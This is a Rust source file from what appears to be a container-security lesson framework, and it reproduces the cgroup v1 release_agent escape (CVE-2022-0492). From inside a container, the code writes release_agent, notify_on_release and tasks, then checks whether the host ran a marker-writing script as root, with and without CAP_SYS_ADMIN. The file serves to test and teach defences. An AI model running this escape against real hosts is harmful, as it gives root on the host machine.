//! A program that the kernel runs on the host when a group is empty.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::thread::sleep;
use std::time::Duration;

use ground::Result;
use ground::call::quietly;
use ground::host::hierarchy::Hierarchy;
use ground::lesson::{Experiment, Findings, Level, run_dir};
use ground::needs::Need;
use ground::story::{evidence, muted};
use mount_ns::{Volume, VolumeSpec};

use crate::attack::{self, Escape, Outcome, Protection, boxed, sealed, twice};

pub const EXPERIMENT: Experiment = Experiment {
    name: "escape-release-agent",
    title: "cgroup v1 runs the release_agent as root of the host",
    level: Level::Deep,
    claims: &["C238"],
    needs: &[Need::InitialRoot, Need::Clone3, Need::MemoryV1],
    run,
};

pub const ESCAPE: Escape = Escape {
    name: "release_agent of cgroup v1",
    known: "CVE-2022-0492",
    open: "a box with CAP_SYS_ADMIN and a v1 hierarchy that can be written",
    closed: "CAP_SYS_ADMIN given up",
    needs: &[Need::InitialRoot, Need::MemoryV1],
    attempt,
};

fn run(findings: &mut Findings) -> Result<()> {
    twice(&ESCAPE, findings).map(drop)
}

/// The hierarchy is one that the lesson makes, without a controller; the agent is a script that writes one file beside
/// itself.
fn attempt(protection: Protection) -> Result<Outcome> {
    let hierarchy = muted(|| Hierarchy::make("victim"))?;
    let (agent, mark) = agent()?;
    let group = "/cg/victim";
    let script = format!(
        "write /cg/release_agent {}; write {group}/notify_on_release 1; write {group}/tasks 0",
        agent.display()
    );
    let spec = VolumeSpec {
        source: hierarchy.path().into(),
        destination: "/cg".into(),
        read_only: false,
        mapped: false,
    };
    let container = boxed(&["script", &script])?.with(Volume::new(spec));
    let text = attack::run(sealed(container, protection)?)?;
    // The kernel starts the agent in its own time; when nothing has been written there is nothing to wait for.
    let patience = if text.contains("-1 E") { 0 } else { 200 };
    let ran = (0..=patience).any(|_| {
        sleep(Duration::from_millis(10));
        mark.exists()
    });
    evidence(
        "a file that only the agent writes",
        if ran { "is there: root of the host ran it" } else { "is not there" },
    );
    Ok(Outcome::of(&text, ran.then_some("ran a program as root of the host")))
}

fn agent() -> Result<(PathBuf, PathBuf)> {
    let (agent, mark) = (run_dir()?.join("agent"), run_dir()?.join("agent-ran"));
    let text = format!("#!/bin/sh\n: > {}\n", mark.display());
    quietly("write the agent").run(|| {
        let _ = fs::remove_file(&mark);
        fs::write(&agent, text)?;
        fs::set_permissions(&agent, fs::Permissions::from_mode(0o755))
    })?;
    Ok((agent, mark))
}
